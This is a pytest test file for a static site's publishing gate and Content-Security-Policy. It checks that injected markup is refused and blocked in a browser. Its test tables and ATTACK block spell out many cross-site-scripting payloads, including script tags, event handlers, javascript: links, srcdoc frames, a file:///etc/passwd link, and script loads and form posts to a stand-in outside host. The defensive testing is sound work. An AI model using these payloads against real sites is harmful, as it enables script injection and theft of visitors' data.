"""Pages load only the site's own files and run nothing written into them: the policy and the gate both see to it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Route, expect

from builder.gate.html_pages import check_site
from builder.gate.parsed_page import ParsedPage, PublishedPage
from builder.gate.policy import POLICY, refused_files
from builder.model import Dossier
from support.browser import DESK, PHONE
from support.waiting import wait_until

EMPTY = Dossier("", None, None, "", "full", (), (), (), (), (), (), ())
META = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
BY_HAND, GENERATED = "method.html", "evidence/unused.html"

PLACES = {
    "head": (BY_HAND, r"</head>", r"{}\g<0>"),
    "frame": (BY_HAND, r"<body[^>]*>", r"\g<0>{}"),
    "content": (BY_HAND, r"</h1>", r"\g<0>{}"),
    "quotation": (GENERATED, r'<span class="quote"[^>]*>', r"\g<0>{}"),
}
"""Where a page is tampered with: the page, a pattern for the place, and its replacement with the markup as {}."""

SCRIPT, STYLE = "inline script", "inline style"
ELEMENT, ATTRIBUTE = "active element", "active attribute"
NOT_ALLOWED, DEAD = "link that is not allowed", "dead link"

TAMPERINGS = [
    # scripts
    ("<script>run()</script>", SCRIPT),
    ("<SCRIPT>run()</SCRIPT>", SCRIPT),
    ("<script/x>run()</script>", SCRIPT),
    ("<script type=module>run()</script>", SCRIPT),
    ("<script type='application/json '>run()</script>", SCRIPT),
    ("<script type=importmap>{}</script>", SCRIPT),
    ('<script type=speculationrules>{"prefetch": [{"urls": ["https://elsewhere.example/"]}]}</script>', SCRIPT),
    ("<script async src=https://elsewhere.example/x.js></script>", NOT_ALLOWED),
    ("<script src=//elsewhere.example/x.js></script>", NOT_ALLOWED),
    (r"<script src=\\elsewhere.example/x.js></script>", DEAD),
    ("<script src=data:text/javascript,run()></script>", NOT_ALLOWED),
    ("<script src=no-such-file.js></script>", DEAD),
    ("<script href=index.html src=https://elsewhere.example/x.js></script>", NOT_ALLOWED),
    # attributes that run
    ("<img src=x onerror=run()>", f"{SCRIPT} (onerror)"),
    ("<img src=x OnError = run()>", f"{SCRIPT} (onerror)"),
    ("<p onpointerenter=run()>x</p>", f"{SCRIPT} (onpointerenter)"),
    ("<details open ontoggle=run()></details>", f"{SCRIPT} (ontoggle)"),
    ("<svg><path onbegin=run() /></svg>", f"{SCRIPT} (onbegin)"),
    ("<p style='color: red'>x</p>", STYLE),
    ("<style>p { background: url(//elsewhere.example) }</style>", STYLE),
    ("<svg><style>p { color: red }</style></svg>", STYLE),
    # links that run, or hide where they lead
    ("<a href=javascript:run()>x</a>", NOT_ALLOWED),
    ("<a href='java\tscript:run()'>x</a>", NOT_ALLOWED),
    ("<a href=' &#1;JavaScript:run()'>x</a>", NOT_ALLOWED),
    ("<a href=data:text/html,x>x</a>", NOT_ALLOWED),
    ("<a href=vbscript:run()>x</a>", NOT_ALLOWED),
    ("<a href=blob:https://elsewhere.example/1>x</a>", NOT_ALLOWED),
    ("<a href=file:///etc/passwd>x</a>", NOT_ALLOWED),
    (r"<a href=/\elsewhere.example>x</a>", DEAD),
    ("<a href=method.html ping=https://elsewhere.example>x</a>", ATTRIBUTE),
    ("<svg><a xlink:href=javascript:run()><text>x</text></a></svg>", ATTRIBUTE),
    # what is loaded
    ("<img src=https://elsewhere.example/x.png>", NOT_ALLOWED),
    ("<img src=data:image/png,x>", NOT_ALLOWED),
    ("<img src=assets/icons/mark.svg srcset=https://elsewhere.example/x.png>", ATTRIBUTE),
    ("<img src=assets/icons/mark.svg attributionsrc=https://elsewhere.example>", ATTRIBUTE),
    ("<link rel=preload as=image href=assets/icons/mark.svg imagesrcset=https://elsewhere.example/x.png>", ATTRIBUTE),
    ("<img href=index.html src=https://elsewhere.example/x.png>", NOT_ALLOWED),
    ("<input type=image src=https://elsewhere.example/x.png>", NOT_ALLOWED),
    ("<table background=//elsewhere.example/x.png></table>", ATTRIBUTE),
    ("<svg><rect fill='url(https://elsewhere.example/x.svg#a)' /></svg>", ATTRIBUTE),
    ("<link rel=stylesheet href=https://elsewhere.example/x.css>", NOT_ALLOWED),
    ("<link rel=preconnect href=https://elsewhere.example>", NOT_ALLOWED),
    ("<link rel=prefetch href=index.html>", "<link> with a relation that is not allowed"),
    ("<link rel='canonical dns-prefetch' href=//elsewhere.example>", NOT_ALLOWED),
    ("<video poster=x.png><source src=https://elsewhere.example/x.mp4></video>", ELEMENT),
    # pages inside the page, and redirects
    ("<iframe src=index.html></iframe>", ELEMENT),
    ("<iframe srcdoc='<script>run()</script>'></iframe>", ELEMENT),
    ("<object data=index.html></object>", ELEMENT),
    ("<embed src=index.html>", ELEMENT),
    ("<base href=https://elsewhere.example/>", ELEMENT),
    ("<meta http-equiv=refresh content='0; url=https://elsewhere.example'>", "instruction to the browser"),
    ("<meta http-equiv=' Set-Cookie' content=a=b>", "instruction to the browser"),
    (META, "two Content-Security-Policies"),
    # what is sent
    ("<form action=https://elsewhere.example><input name=x></form>", ATTRIBUTE),
    ("<button formaction=https://elsewhere.example>x</button>", ATTRIBUTE),
    # active drawings, and elements in which parsers and browsers see different markup
    ("<svg><script>run()</script></svg>", SCRIPT),
    ("<svg><animate attributeName=href to=javascript:run() /></svg>", ELEMENT),
    ("<svg><set attributeName=onclick to=run() /></svg>", ELEMENT),
    ("<svg><foreignObject><p>x</p></foreignObject></svg>", ELEMENT),
    ("<svg><use href=#x /></svg>", ELEMENT),
    ("<svg><image href=https://elsewhere.example/x.png /></svg>", ELEMENT),
    ("<math><mi>x</mi></math>", ELEMENT),
    ("<noscript><p>x</p></noscript>", ELEMENT),
    ("<template><p>x</p></template>", ELEMENT),
    ("<some-thing>x</some-thing>", ELEMENT),
]


@pytest.fixture(scope="module")
def texts(built: Path) -> dict[str, str]:
    """Return two pages of the built site: one written by hand and one that the builder made."""
    return {name: (built / "site" / name).read_text(encoding="utf-8") for name in (BY_HAND, GENERATED)}


@pytest.fixture(scope="module")
def files(built: Path) -> set[str]:
    site = built / "site"
    return {path.relative_to(site).as_posix() for path in site.rglob("*") if path.is_file()}


def complaints(name: str, html: str, files: set[str]) -> list[str]:
    """Return what the gate says about a page alone, without its quotations and without the pages that are missing."""
    page = PublishedPage(name, html, None)
    problems = check_site(
        {name: ParsedPage(page)}, files, [one for one in files if "assets/javascripts" not in one], EMPTY
    )
    return [str(one) for one in problems if one.file == name and "quotation" not in one.message]


def replaced_once(text: str, pattern: str, replacement: str) -> str:
    changed, times = re.subn(pattern, lambda match: match.expand(replacement), text, count=1, flags=re.S)
    assert times == 1, pattern
    return changed


@pytest.mark.parametrize("name", [BY_HAND, GENERATED])
def test_untouched_pages_pass(texts: dict[str, str], files: set[str], name: str) -> None:
    assert complaints(name, texts[name], files) == []


@pytest.mark.parametrize(("markup", "expected"), TAMPERINGS, ids=[markup[:40] for markup, _ in TAMPERINGS])
def test_active_markup_is_refused_anywhere_in_a_page(
    texts: dict[str, str], files: set[str], markup: str, expected: str
) -> None:
    for place, (name, pattern, replacement) in PLACES.items():
        found = complaints(
            name, replaced_once(texts[name], pattern, replacement.replace("{}", markup.replace("\\", r"\\"))), files
        )
        matching = [one for one in found if expected in one]
        assert matching, (place, found)
        assert (
            place != "quotation"
            or expected in (NOT_ALLOWED, DEAD, "two Content-Security-Policies")
            or "quoted words (0" in matching[0]
        ), matching


@pytest.mark.parametrize(
    ("pattern", "replacement", "expected"),
    [
        (re.escape(META), "", "page has no Content-Security-Policy"),
        (r'(?<=content=")default', "x-default", "Content-Security-Policy is not the one for all pages"),
        (r"(?<=script-src 'self')", " 'unsafe-inline'", "Content-Security-Policy is not the one for all pages"),
        (r"(?<=img-src 'self')", " https:", "Content-Security-Policy is not the one for all pages"),
        (r"; form-action 'none'", "", "Content-Security-Policy is not the one for all pages"),
        (r"Content-Security-Policy", "Content-Security-Policy-Report-Only", "page has no Content-Security-Policy"),
        (re.escape(META) + "(.*)</head>", rf"\1{META}</head>", "Content-Security-Policy does not come first"),
        (re.escape(META) + "(.*)</body>", rf"\1{META}</body>", "Content-Security-Policy does not come first"),
        (
            r"(?<=<head>)",
            '<link rel="icon" href="assets/icons/mark.svg">',
            "Content-Security-Policy does not come first",
        ),
        (r"<!doctype html>", "x", "Content-Security-Policy does not come first"),
        (r'<meta charset="utf-8">', '<meta charset="utf-7">', "Content-Security-Policy does not come first"),
        (r"<html", "<html manifest=x", ATTRIBUTE),
        (r"<html", "<html onpageshow=run()", SCRIPT),
        (r"<body", "<body onload=run()", SCRIPT),
        (r"<body", "<body style='display: none'", STYLE),
        (r'<form class="md-search__form"', r"\g<0> action=x", ATTRIBUTE),
        (r"assets/theme\.js", "assets/them.js", DEAD),
        (r'type="application/json"', 'type="text/javascript"', SCRIPT),
        (r"</h1>", "<!-- > --!> <script>run()</script></h1>", SCRIPT),
    ],
)
def test_a_page_whose_frame_is_tampered_with_is_refused(
    texts: dict[str, str], files: set[str], pattern: str, replacement: str, expected: str
) -> None:
    found = complaints(BY_HAND, replaced_once(texts[BY_HAND], pattern, replacement), files)
    assert any(expected in one for one in found), found


def test_inert_markup_of_an_editor_passes(texts: dict[str, str], files: set[str]) -> None:
    """A hand-written page may have inert markup, even where it looks active."""
    markup = """
      <p id="x" class="y" title="onclick=run()">&lt;script&gt;run()&lt;/script&gt; <a href="https://example.org/">a</a>
      <a href="mailto:jo@example.org">b</a> <abbr title="url(x)">c</abbr> <code>javascript:run()</code></p>
      <figure><img src="assets/icons/mark.svg" alt="d"><figcaption>e</figcaption></figure>
      <details open><summary>f</summary><table><tr><td colspan="2">g</td></tr></table></details>
      <svg viewBox="0 0 9 9"><g><circle cx="1" cy="1" r="1" fill="red"/><text>h</text></g></svg>
      <script type="application/ld+json">{"name": "i"}</script>
    """
    name, pattern, replacement = PLACES["content"]
    assert complaints(name, replaced_once(texts[name], pattern, replacement.replace("{}", markup)), files) == []


def test_a_refusal_names_the_markup_and_gives_a_hint(texts: dict[str, str], files: set[str]) -> None:
    text = texts[BY_HAND]
    by_hand = complaints(BY_HAND, replaced_once(text, "</h1>", r'\g<0><p style="color: red">Now</p>'), files)
    assert by_hand == [
        'method.html: inline style: “<p style="color: red">Now</p>” '
        "Put styles into a file in docs/assets/ and list it in mkdocs.yml under extra_css."
    ]
    framed = complaints(BY_HAND, replaced_once(text, "</body>", r"<script>var a=1</script>\g<0>"), files)
    assert len(framed) == 1
    assert framed[0].startswith("method.html: inline script: “<script>var a=1</script>” Put scripts into")
    assert "builder/site/theme/" in framed[0]


def test_scripts_may_come_only_from_the_theme_and_from_docs() -> None:
    site = ["assets/javascripts/bundle.js", "assets/dossier.js", "search/search_index.json", "index.html", "a.svg"]
    assert refused_files(site, ["assets/dossier.js"]) == []
    more = ["x.js", "assets/x.MJS", "topics/x.wasm", "x.htm", "x.xhtml", "x.HTML"]
    assert {name for name, _, _ in refused_files([*site, *more], ["assets/dossier.js"])} == set(more)
    assert refused_files(["assets/dossier.js"], []) != []


# ---- in the browser


ELSEWHERE = "https://elsewhere.example"
RAN = "(window.ran ??= []).push"
ATTACK = f"""
  <script>{RAN}("script")</script>
  <img src="no-such-image.png" onerror="{RAN}('attribute')">
  <a id="attack" href="javascript:{RAN}('link')">x</a>
  <iframe srcdoc="<script>{RAN.replace("window", "parent")}('inner page')</script>"></iframe>
  <script src="{ELSEWHERE}/script"></script>
  <img src="{ELSEWHERE}/image">
  <link rel="stylesheet" href="{ELSEWHERE}/sheet">
  <style>h1 {{ background: url({ELSEWHERE}/style) }}</style>
  <p id="styled" style="display: grid; background: url({ELSEWHERE}/attribute)">x</p>
  <iframe src="{ELSEWHERE}/frame"></iframe>
  <object data="{ELSEWHERE}/object"></object>
  <embed src="{ELSEWHERE}/embed">
  <video src="{ELSEWHERE}/video"></video>
  <svg><image href="{ELSEWHERE}/drawing" /></svg>
  <form id="form" action="{ELSEWHERE}/form" target="_blank"><input name="x"></form>
  <base href="{ELSEWHERE}/base/">
"""
EVERYTHING = {"script", "image", "sheet", "style", "attribute", "frame", "object", "embed", "video", "drawing", "form"}


class WatchedPage:
    """A page with a record of its policy violations, errors and requests to other sites."""

    def __init__(self, browser: Browser) -> None:
        self.context = browser.new_context(viewport=DESK, permissions=["clipboard-read", "clipboard-write"])
        self.wrong: list[str] = []
        self.asked: set[str] = set()
        self.context.route(f"{ELSEWHERE}/**", self._note)
        self.context.add_init_script(
            "addEventListener('securitypolicyviolation', "
            "event => console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`))"
        )
        self.page = self.context.new_page()
        self.page.on("console", lambda message: self._hear(message.text))
        self.page.on("pageerror", lambda error: self.wrong.append(error.message))

    def _note(self, route: Route) -> None:
        self.asked.add(route.request.url.removeprefix(f"{ELSEWHERE}/").split("?")[0].split("/")[0])
        route.fulfill(body="")

    def _hear(self, text: str) -> None:
        if text.startswith("policy:"):
            self.wrong.append(text)


@pytest.fixture
def watched(browser: Browser) -> Iterator[WatchedPage]:
    one = WatchedPage(browser)
    yield one
    one.context.close()


def attacked(watched: WatchedPage, address: str, html: str) -> tuple[list[str], str]:
    """Return what ran in a page, and how its styled paragraph is laid out, after everything was tried."""
    page = watched.page
    page.route(f"{address}/{BY_HAND}", lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8"))
    page.goto(f"{address}/{BY_HAND}", wait_until="networkidle")
    page.locator("#attack").dispatch_event("click")
    page.evaluate("document.getElementById('form').submit()")

    def form_was_tried() -> bool:
        page.wait_for_timeout(1)  # Playwright reports what happens in the page only while it waits
        return "form" in watched.asked or any("form-action" in one for one in watched.wrong)

    wait_until(form_was_tried, "the form, the last of all, was sent or stopped")
    ran = page.evaluate("window.ran ?? []")
    return list(ran), page.locator("#styled").evaluate("node => getComputedStyle(node).display")


@pytest.mark.parametrize("policy", [META, ""], ids=["with", "without"])
def test_a_browser_runs_and_asks_for_nothing(watched: WatchedPage, site: Path, address: str, policy: str) -> None:
    """The policy holds even if active content passes the gate; without it, everything would run."""
    text = (site / BY_HAND).read_text(encoding="utf-8")
    html = replaced_once(text, "</h1>", r"\g<0>" + ATTACK).replace(META, policy)
    ran, display = attacked(watched, address, html)
    if policy:
        assert (ran, display, watched.asked) == ([], "block", set())
        assert len(watched.wrong) > len(EVERYTHING)
    else:
        assert (set(ran), display) == ({"script", "attribute", "link", "inner page"}, "grid")
        assert watched.asked == {*EVERYTHING, "base"}


def test_everything_works_under_the_policy(watched: WatchedPage, address: str) -> None:
    """A reader can use every function of the site without a violation of the policy."""
    page = watched.page
    page.goto(f"{address}/topics/capture.html")
    page.locator(".claim a.footnote-ref").first.hover()
    expect(page.locator(".md-tooltip2--active")).to_be_visible()
    page.get_by_role("button", name="Dark theme").click()
    page.get_by_role("button", name="Copy citation", exact=True).first.click()
    expect(page.get_by_role("button", name="Citation copied", exact=True)).to_be_visible()
    name = page.locator("details.more sup[id]").first.get_attribute("id")
    page.evaluate("name => { location.hash = name }", name)
    expect(page.locator(f"[id='{name}']")).to_be_in_viewport()
    page.mouse.wheel(0, -200)
    expect(page.locator(".md-top")).to_be_visible()
    page.pdf()
    page.keyboard.press("/")
    page.keyboard.type("paratroopers")
    page.locator(".md-search-result__item a", has_text="paratroopers").first.click()
    expect(page.locator("article mark", has_text="paratroopers").first).to_be_visible()
    page.goto(f"{address}/evidence/figures.html")
    shown = "node => getComputedStyle(node)"
    assert page.locator("svg.plot circle").first.evaluate(f"node => ({shown})(node).fill") != "rgb(0, 0, 0)"
    page.goto(f"{address}/topics/no-such-topic.html")
    expect(page.locator(".md-header")).to_have_css("position", "sticky")
    page.set_viewport_size(PHONE)
    page.locator("label.md-header__button[for=__drawer]").click()
    expect(page.locator(".md-nav--primary > .md-nav__list > .md-nav__item").last).to_be_in_viewport()
    assert watched.wrong == []
